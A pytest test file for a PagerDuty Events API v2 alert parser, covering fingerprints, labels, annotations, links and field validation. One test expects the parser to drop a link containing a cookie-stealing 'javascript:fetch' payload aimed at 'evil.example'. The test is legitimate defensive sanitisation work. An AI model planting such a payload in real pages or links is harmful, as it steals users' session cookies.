"""Pure tests of the PagerDuty Events API v2 parser against real-shaped events."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from alerts.sources.base import ACKNOWLEDGED, FIRING, RESOLVED, Link, PayloadError
from alerts.sources.pagerduty import parse

FIXTURES = Path(__file__).parent / "fixtures" / "pagerduty"


def load(name: str) -> dict:
    return json.loads((FIXTURES / f"{name}.json").read_text())


def problems_of(payload: object) -> list[str]:
    with pytest.raises(PayloadError) as caught:
        parse(payload)
    return caught.value.problems


def test_trigger_yields_one_firing_alert_keyed_by_dedup_key():
    (alert,) = parse(load("trigger"))
    assert alert.status == FIRING
    assert alert.fingerprint == "srv01/mysql"
    assert alert.group_key == "srv01/mysql"
    assert alert.summary == "DISK at 99% on machine prod-datapipe03.example.com"
    assert alert.severity == 1
    assert alert.starts_at == datetime(2015, 7, 17, 8, 42, 58, 315000, tzinfo=UTC)


def test_trigger_labels_come_from_payload_fields_present():
    (alert,) = parse(load("trigger"))
    assert alert.labels == {
        "source": "prod-datapipe03.example.com",
        "component": "mysql",
        "group": "prod-datapipe",
        "class": "disk",
        "severity": "critical",
    }
    (bare,) = parse(load("trigger_without_dedup_key"))
    assert bare.labels == {"source": "backup-runner-3", "severity": "error"}


def test_custom_details_are_flattened_into_annotations_without_warnings():
    (alert,) = parse(load("trigger"))
    assert alert.annotations == {
        "free space": "1%",
        "ping time": "1500ms",
        "load avg": "0.75",
        "mounts": '{"/var/lib/mysql":{"used_pct":99,"inodes_pct":41}}',
        "client": "Sample Monitoring Service",
    }
    assert not any("custom_details" in w for w in alert.warnings)


def test_links_images_and_client_url_become_links_and_javascript_is_dropped():
    (alert,) = parse(load("trigger"))
    assert alert.links == [
        Link("link", "http://pagerduty.example.com", "An example link."),
        Link(
            "image",
            "https://chart.googleapis.com/chart?chs=600x400&chd=t:6,2,9,5,2,5,7,4,8,2,1&cht=lc"
            "&chds=a&chxt=y&chm=D,0033FF,0,0,5,1",
            "An example link with an image",
        ),
        Link("link", "https://example.com/", "An example link with an image"),
        Link("source", "https://monitoring.service.com", "Sample Monitoring Service"),
    ]
    assert alert.warnings == [
        "dropped link link \"javascript:fetch('https://evil.example/'+document.cookie)\": "
        "only absolute http(s) URLs are allowed"
    ]


def test_raw_is_the_whole_event_with_routing_key_redacted():
    event = load("trigger")
    (alert,) = parse(event)
    assert alert.raw == {**event, "routing_key": "[redacted]"}
    assert event["routing_key"] == "e93facc04764012d7bfb002500d5d1a6"


def test_acknowledge_yields_acknowledged_alert_for_the_dedup_key():
    (alert,) = parse(load("acknowledge"))
    assert alert.status == ACKNOWLEDGED
    assert alert.fingerprint == alert.group_key == "srv01/mysql"
    assert alert.summary == "Acknowledge event for srv01/mysql"
    assert alert.severity == 3
    assert alert.warnings == []


def test_resolve_yields_resolved_alert_for_the_dedup_key():
    (alert,) = parse(load("resolve"))
    assert alert.status == RESOLVED
    assert alert.fingerprint == "srv01/mysql"
    assert alert.summary == "Resolve event for srv01/mysql"


def test_trigger_without_dedup_key_gets_a_fresh_random_key():
    first = parse(load("trigger_without_dedup_key"))[0]
    second = parse(load("trigger_without_dedup_key"))[0]
    assert len(first.fingerprint) == 32
    int(first.fingerprint, 16)
    assert first.fingerprint != second.fingerprint
    assert first.group_key == first.fingerprint


def test_custom_details_that_are_not_an_object_are_kept_whole():
    (alert,) = parse(load("trigger_without_dedup_key"))
    assert alert.annotations == {
        "custom_details": "exit status 2: pg_dump: error: connection to server lost"
    }


@pytest.mark.parametrize(
    ("severity", "expected"), [("critical", 1), ("error", 2), ("warning", 3), ("info", 5)]
)
def test_severity_maps_to_scale_one_to_five(severity, expected):
    event = load("trigger")
    event["payload"]["severity"] = severity
    assert parse(event)[0].severity == expected


def test_alertmanager_pagerduty_configs_trigger_parses():
    (alert,) = parse(load("alertmanager_pagerduty_configs"))
    assert alert.status == FIRING
    assert alert.fingerprint.startswith("9a1c3e5b")
    assert alert.summary == "[FIRING:2] InstanceDown (node production critical)"
    assert alert.severity == 1
    assert alert.annotations["num_firing"] == "2"
    assert alert.annotations["resolved"] == ""
    assert alert.annotations["firing"].startswith("Labels:\n - alertname = InstanceDown")
    assert alert.links == [
        Link(
            "source",
            "http://alertmanager.example.com:9093/#/alerts?receiver=pagerduty-muster",
            "Alertmanager",
        )
    ]
    assert alert.warnings == []


def test_alertmanager_pagerduty_configs_resolve_parses_with_its_payload():
    (alert,) = parse(load("alertmanager_pagerduty_configs_resolve"))
    assert alert.status == RESOLVED
    assert alert.fingerprint == parse(load("alertmanager_pagerduty_configs"))[0].fingerprint
    assert alert.summary == "[RESOLVED] InstanceDown (node production critical)"
    assert alert.annotations["num_resolved"] == "2"


def test_empty_object_lists_every_missing_field():
    assert problems_of({}) == [
        "missing required field 'routing_key'",
        "missing required field 'event_action'",
    ]


def test_trigger_without_payload_fields_lists_all_of_them():
    assert problems_of({"event_action": "trigger", "payload": {}}) == [
        "missing required field 'routing_key'",
        "missing required field 'payload.summary'",
        "missing required field 'payload.source'",
        "missing required field 'payload.severity'",
    ]


def test_trigger_without_payload_is_rejected():
    event = load("trigger")
    del event["payload"]
    assert problems_of(event) == ["missing required field 'payload'"]


def test_invalid_values_are_each_reported():
    event = load("trigger")
    event["routing_key"] = ""
    event["payload"]["severity"] = "fatal"
    event["payload"]["summary"] = 42
    assert problems_of(event) == [
        "'routing_key' must be a non-empty string",
        "'payload.summary' must be a non-empty string",
        "'payload.severity' must be one of 'critical', 'error', 'warning', 'info' (got 'fatal')",
    ]


def test_unknown_event_action_is_rejected():
    event = load("acknowledge")
    event["event_action"] = "snooze"
    assert problems_of(event) == [
        "'event_action' must be one of 'trigger', 'acknowledge', 'resolve' (got 'snooze')"
    ]


def test_unhashable_event_action_is_rejected_not_crashing():
    event = load("acknowledge")
    event["event_action"] = ["resolve"]
    assert problems_of(event)[0].startswith("'event_action' must be one of")


@pytest.mark.parametrize("action", ["acknowledge", "resolve"])
def test_acknowledge_and_resolve_require_a_dedup_key(action):
    event = {"routing_key": "e93facc04764012d7bfb002500d5d1a6", "event_action": action}
    assert problems_of(event) == [f"missing required field 'dedup_key' (required to {action})"]


def test_dedup_key_must_be_a_short_string():
    event = load("resolve")
    event["dedup_key"] = 12345
    assert problems_of(event) == ["'dedup_key' must be a string, got number"]
    event["dedup_key"] = "k" * 256
    assert problems_of(event) == ["'dedup_key' must be at most 255 characters"]


def test_events_api_v1_payload_gets_a_hint():
    event = {"service_key": "e93facc04764012d7bfb002500d5d1a6", "event_type": "trigger"}
    problems = problems_of(event)
    assert "missing required field 'routing_key'" in problems
    assert "this looks like an Events API v1 event; send Events API v2" in problems


def test_unknown_fields_are_ignored():
    event = load("trigger")
    event["payload"]["x_new_field"] = {"a": 1}
    event["routing_hint"] = "eu"
    (alert,) = parse(event)
    assert len(alert.warnings) == 1  # only the javascript link


def test_thousand_level_nested_custom_details_do_not_crash():
    event = load("trigger")
    deep: object = "bottom"
    for _ in range(1000):
        deep = {"level": deep}
    event["payload"]["custom_details"] = {"deep": deep}
    (alert,) = parse(event)
    assert alert.annotations["deep"].startswith('{"level":{"level":')
    assert "raw payload nested deeper than 64 levels; deeper parts cut" in alert.warnings


def test_nul_in_summary_is_replaced_and_long_summary_truncated():
    event = load("trigger")
    event["payload"]["summary"] = "disk\x00full " + "x" * 2000
    (alert,) = parse(event)
    assert alert.summary.startswith("disk\ufffdfull ")
    assert len(alert.summary) == 1024
    assert "payload.summary: replaced NUL characters with U+FFFD" in alert.warnings
    assert "payload.summary: truncated to 1024 characters" in alert.warnings


def test_malformed_links_and_timestamp_are_ignored_with_warnings():
    event = load("trigger")
    event["links"] = ["http://not-an-object.example", {"href": "https://ok.example", "text": 7}]
    event["images"] = {"src": "https://x.example/i.png"}
    event["payload"]["timestamp"] = "last tuesday"
    (alert,) = parse(event)
    assert Link("link", "https://ok.example", "7") in alert.links
    assert "links[0]: expected an object, got string; ignored" in alert.warnings
    assert "images: expected a list, got object; ignored" in alert.warnings
    assert alert.starts_at is None
    assert any(w.startswith("payload.timestamp: not an RFC 3339") for w in alert.warnings)
